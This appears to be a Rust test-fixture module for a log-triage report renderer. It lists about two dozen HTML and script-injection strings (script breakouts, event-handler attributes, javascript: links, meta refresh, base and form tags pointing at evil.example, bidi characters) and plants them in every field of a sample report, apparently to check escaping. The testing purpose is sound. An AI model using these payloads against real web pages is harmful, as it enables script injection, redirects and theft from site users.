//! The made-up run with text from an attacker in every field that a log line can reach, and a long chain.
//! Leaves out what must come of it: see `html`.

use log_gardener::report::view::*;

use crate::report::sample;

/// What a log line may hold to become an element, an attribute, a script or a link.
pub(crate) const CASES: &[&str] = &[
    "</script><script>window.ran=1</script>",
    "<img src=x onerror=\"window.ran=1\">",
    "\"><svg onload='window.ran=1'>",
    "' onmouseover='window.ran=1' x='",
    "\" autofocus onfocus=window.ran=1 \"",
    "javascript:window.ran=1",
    "<a href=\"javascript:window.ran=1\">x</a>",
    "https://evil.example/x.png",
    "</style><style>@import url(https://evil.example/a.css);*{background:url(https://evil.example/b)}",
    "</title><script>window.ran=1</script>",
    "</pre></details><script>window.ran=1</script>",
    "</text></svg><foreignObject><script>window.ran=1</script></foreignObject>",
    "<iframe srcdoc=\"<script>parent.ran=1</script>\"></iframe>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/><link rel=stylesheet href=x.css>",
    "<form action=https://evil.example><button>x</button></form>",
    "--><script>window.ran=1</script><!--",
    "]]><script>window.ran=1</script>",
    "<![CDATA[<script>window.ran=1</script>",
    "&lt;script&gt; &#60;script&#62; &amp;lt;",
    "\u{0}\u{1}\u{8}\u{b}\u{7f}\u{85}\u{9b}31m",
    "\u{202e}gpj.exe\u{202c} a\u{200b}b\u{feff}\u{2066}x\u{2069}",
    "`</code><script>window.ran=1</script>`",
    "` onclick=window.ran=1 `",
    "{{ 7 * 7 }} {% raw %} {# x #}",
    "\n<pre>\n</pre>\n<style>\n",
];

/// Returns the run with events in every minute between a group's first and last.
pub(crate) fn plain() -> TriageView {
    let mut run = sample::run();
    run.coverage.checkout = Some(sample::checkout("plain"));
    run.incidents.iter_mut().for_each(|incident| incident.cause = Some(sample::cause("plain")));
    for group in run.incidents.iter_mut().flat_map(|incident| &mut incident.groups) {
        let minute = |time: Option<log_gardener::entry::Timestamp>| time.map(|time| time.0.div_euclid(60_000_000_000));
        if let (Some(first), Some(last)) = (minute(group.first_seen), minute(group.last_seen)) {
            let steps = (last - first + 1).unsigned_abs();
            group.minutes = (first..=last).map(|minute| (minute, group.entries / steps)).collect();
        }
    }
    run
}

/// Returns the run with `text` wherever text from a log may stand.
pub(crate) fn poisoned(text: &str) -> TriageView {
    let mut run = plain();
    run.coverage.notes = vec![text.to_string()];
    run.coverage.checkout = Some(sample::checkout(text));
    for source in &mut run.coverage.sources {
        source.source = text.to_string();
        source.format = text.to_string();
    }
    for incident in &mut run.incidents {
        poison(incident, text);
    }
    run
}

fn poison(incident: &mut IncidentView, text: &str) {
    let set = |place: &mut String| *place = text.to_string();
    let all = |places: &mut Vec<String>| places.iter_mut().for_each(set);
    set(&mut incident.title);
    set(&mut incident.priority_reason);
    set(&mut incident.priority_rule);
    all(&mut incident.services);
    all(&mut incident.revisions);
    all(&mut incident.projects);
    all(&mut incident.reproduce);
    all(&mut incident.unknowns);
    incident.expected.iter_mut().for_each(set);
    for group in &mut incident.groups {
        set(&mut group.title);
        set(&mut group.template);
        all(&mut group.services);
        group.variants = vec![VariantView { name: text.to_string(), value: text.to_string(), count: 1 }];
        for part in &mut group.fingerprint_parts {
            set(&mut part.value);
        }
        for sample in &mut group.samples {
            set(&mut sample.quote);
            set(&mut sample.source);
            sample.insert_id = Some(text.to_string());
        }
        if let Some(exception) = &mut group.exception {
            exception.message.iter_mut().for_each(set);
            exception.type_name.iter_mut().for_each(set);
            for frame in &mut exception.frames {
                frame.file.iter_mut().for_each(set);
                frame.function.iter_mut().for_each(set);
            }
        }
    }
    for link in &mut incident.links {
        set(&mut link.why);
        link.evidence.iter_mut().flatten().for_each(set);
        link.shared = Some(SharedView { key: text.to_string(), value: text.to_string() });
    }
    for item in &mut incident.timeline {
        set(&mut item.text);
        set(&mut item.reference);
    }
    let evidence = |evidence: &mut Vec<EvidenceView>| {
        for item in evidence {
            set(&mut item.reference);
            set(&mut item.quote);
        }
    };
    for statement in incident.impact.iter_mut().chain([&mut incident.trigger, &mut incident.root_cause]) {
        set(&mut statement.text);
        evidence(&mut statement.evidence);
    }
    for why in &mut incident.whys {
        set(&mut why.question);
        set(&mut why.answer);
        why.settle.iter_mut().for_each(set);
        evidence(&mut why.evidence);
    }
    for action in &mut incident.actions {
        set(&mut action.kind);
        set(&mut action.text);
        set(&mut action.source);
    }
    incident.cause = Some(sample::cause(text));
    for test in &mut incident.tests {
        for place in [&mut test.level, &mut test.text, &mut test.fails_now, &mut test.passes_when] {
            set(place);
        }
    }
}

/// Returns the run with a chain of `length` groups: two children each, and one group without a link.
pub(crate) fn chain(length: usize) -> TriageView {
    let mut run = plain();
    let incident = &mut run.incidents[0];
    let (group, link) = (incident.groups[1].clone(), incident.links[0].clone());
    let id = |n: usize| format!("{n:012x}");
    incident.groups = (0..length)
        .map(|n| GroupView {
            id: id(n),
            title: format!("Failure {n} of a long chain, {}", "told with many words ".repeat(n % 4)),
            ..group.clone()
        })
        .collect();
    incident.root = id(0);
    incident.links = (1..length.saturating_sub(1))
        .map(|n| LinkView {
            from: id((n - 1) / 2),
            to: id(n),
            confidence: 1.0 - n as f64 / 60.0,
            kind: "instance",
            ..link.clone()
        })
        .collect();
    incident.entries = incident.groups.iter().map(|group| group.entries).sum();
    run
}
